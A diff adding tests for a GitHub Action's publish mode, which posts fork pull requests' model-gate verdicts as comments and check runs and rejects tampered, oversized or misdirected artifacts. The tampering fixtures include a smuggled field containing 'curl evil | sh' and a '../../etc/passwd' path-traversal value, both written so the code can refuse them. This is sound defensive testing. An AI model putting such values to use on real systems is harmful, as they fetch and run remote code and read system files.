@@ -159,3 +159,122 @@ describe("gate-model-change, mode gate (bundled, real Node runtime, local GitHub
     expect(verdict.checks.filter((c) => c.kind === "regression").map((c) => c.outcome)).toEqual(["pass", "pass"]);
   });
 });
+
+describe("gate-model-change, mode publish (the workflow_run follow-up)", { timeout: 120_000 }, () => {
+  /** A fork's gate run: its verdict file, and a workflow run holding it as the artifact `slmops-verdict`. */
+  async function forkRun(number: number, head: string, reports: { device: string; decodeCenterMs: number }[], edit?: (file: VerdictFile) => unknown) {
+    const ws = workspace(reports);
+    const r = await gate(ws, pullRequestPayload(head, { number, fork: true }));
+    expect(r.outputs.published).toBe("artifact");
+    const file = readVerdict(ws);
+    const text = edit ? JSON.stringify(edit(structuredClone(file))) : readFileSync(join(ws, "slmops-gate", "slmops-verdict.json"), "utf8");
+    const run = server.state.addWorkflowRun(OWNER, REPO, {
+      workflowFile: "models.yml",
+      headBranch: "topic",
+      headSha: head,
+      event: "pull_request",
+      conclusion: r.status === 0 ? "success" : "failure",
+      artifacts: [{ name: "slmops-verdict", files: { "slmops-verdict.json": text, "slmops-report.md": "# ignored: the report is rendered again from the checked verdict" } }],
+    });
+    return { run, file };
+  }
+
+  function publish(runId: number, head: string, inputs: Record<string, string> = {}): Promise<ActionRun> {
+    return runAction({
+      workspace: mkdtempSync(join(tmpdir(), "publish-workspace-")),
+      inputs: { mode: "publish", token: TOKEN, ...inputs },
+      event: { name: "workflow_run", payload: workflowRunPayload(runId, head) },
+      env: env(),
+    });
+  }
+
+  it("posts a fork run's verdict as the comment on its pull request and a check run on its commit, then updates in place", async () => {
+    const head = sha(20);
+    server.state.addPullRequest(OWNER, REPO, { number: 201, headSha: head, headRepository: `forker/${REPO}` });
+    const { run } = await forkRun(201, head, [{ device: "rpi5", decodeCenterMs: 60 }, { device: "nuc", decodeCenterMs: 20 }]);
+    const r = await publish(run.id, head);
+    expect(r.stderr).toBe("");
+    expect(r.status, r.stdout).toBe(0);
+    expect(r.outputs).toMatchObject({ verdict: "fail", published: "comment-and-check", "pull-request": "201" });
+    const comments = server.state.comments(OWNER, REPO, 201);
+    expect(comments).toHaveLength(1);
+    expect(comments[0]?.body).toContain("❌");
+    expect(comments[0]?.body).not.toContain("ignored");
+    const check = [...server.state.repository(OWNER, REPO).checkRuns.values()].find((c) => c.headSha === head);
+    expect(check?.conclusion).toBe("failure");
+    expect(check?.annotations.map((a) => [a.path, a.start_line])).toEqual([["project/slmops.yaml", LATENCY_LINE]]);
+
+    const again = await publish(run.id, head);
+    expect(again.status).toBe(0);
+    expect(server.state.comments(OWNER, REPO, 201)).toHaveLength(1);
+  });
+
+  it("does nothing when the run left no verdict artifact (a same-repository run publishes itself)", async () => {
+    const run = server.state.addWorkflowRun(OWNER, REPO, { workflowFile: "models.yml", headBranch: "topic", headSha: sha(21), event: "pull_request" });
+    const before = server.requests.length;
+    const r = await publish(run.id, sha(21));
+    expect(r.status, r.stdout).toBe(0);
+    expect(r.outputs.published).toBe("nothing");
+    expect(writes(before)).toEqual([]);
+  });
+
+  it.each([
+    ["a verdict turned from fail to pass", (f: VerdictFile) => ({ ...f, verdict: { ...f.verdict, outcome: "pass" } }), /says "pass" but its device results give "fail"/],
+    ["a failed check turned to pass", (f: VerdictFile) => {
+      const v = f.verdict as unknown as { checks: { outcome: string }[]; pairs: { checks: { outcome: string }[]; outcome: string }[]; outcome: string };
+      for (const c of [...v.checks, ...v.pairs.flatMap((p) => p.checks)]) c.outcome = "pass";
+      for (const p of v.pairs) p.outcome = "pass";
+      v.outcome = "pass";
+      return f;
+    }, /the verdict counts 3 pass but lists 4; the file was changed after the gate wrote it/],
+    ["an unknown field", (f: VerdictFile) => ({ ...f, script: "curl evil | sh" }), /must NOT have additional properties/],
+    ["an annotation path outside the repository", (f: VerdictFile) => {
+      const check = f.verdict.checks.find((c) => c.location) as unknown as { location: { file: string } };
+      check.location.file = "../../etc/passwd";
+      return f;
+    }, /location\/file must match pattern/],
+  ])("refuses a tampered artifact: %s, and writes nothing", async (_name, edit, message) => {
+    const head = sha(22);
+    server.state.addPullRequest(OWNER, REPO, { number: 202, headSha: head, headRepository: `forker/${REPO}` });
+    const { run } = await forkRun(202, head, [{ device: "rpi5", decodeCenterMs: 60 }, { device: "nuc", decodeCenterMs: 20 }], edit);
+    const before = server.requests.length;
+    const r = await publish(run.id, head);
+    expect(r.status).toBe(1);
+    expect(r.stdout).toMatch(message);
+    expect(hasStack(r.stdout + r.stderr)).toBe(false);
+    expect(writes(before)).toEqual([]);
+  });
+
+  it("refuses a verdict that names another pull request than the run's commit belongs to", async () => {
+    server.state.addPullRequest(OWNER, REPO, { number: 203, headSha: sha(23), headRepository: `forker/${REPO}` });
+    server.state.addPullRequest(OWNER, REPO, { number: 204, headSha: sha(24), headRepository: `victim/${REPO}` });
+    const { run } = await forkRun(203, sha(23), [{ device: "rpi5", decodeCenterMs: 20 }, { device: "nuc", decodeCenterMs: 20 }], (f) => ({ ...f, pullRequest: 204 }));
+    const before = server.requests.length;
+    const r = await publish(run.id, sha(23));
+    expect(r.status).toBe(1);
+    expect(r.stdout).toMatch(/names pull request #204, whose head is .* not the run's commit/);
+    expect(writes(before)).toEqual([]);
+    expect(server.state.comments(OWNER, REPO, 204)).toEqual([]);
+  });
+
+  it("refuses an oversized artifact without downloading it", async () => {
+    const run = server.state.addWorkflowRun(OWNER, REPO, {
+      workflowFile: "models.yml",
+      headBranch: "topic",
+      headSha: sha(25),
+      event: "pull_request",
+      artifacts: [{ name: "slmops-verdict", zip: zipFiles({ "slmops-verdict.json": randomBytes(3 * 1024 * 1024) }) }],
+    });
+    const before = server.requests.length;
+    const r = await publish(run.id, sha(25));
+    expect(r.status).toBe(1);
+    expect(r.stdout).toMatch(/artifact "slmops-verdict" of run \d+ is \d+ bytes, more than the 2097152 a verdict needs/);
+    expect(server.requests.slice(before).map((q) => q.operationId)).toEqual(["actions/list-workflow-run-artifacts"]);
+  });
+
+  it("refuses to run on any other event", async () => {
+    const r = await runAction({ workspace: mkdtempSync(join(tmpdir(), "publish-")), inputs: { mode: "publish", token: TOKEN }, event: { name: "pull_request", payload: pullRequestPayload(sha(26)) }, env: env() });
+    expect(r.status).toBe(1);
+    expect(r.stdout).toContain("::error::`mode: publish` runs in a workflow triggered by `workflow_run`");
+  });
+});
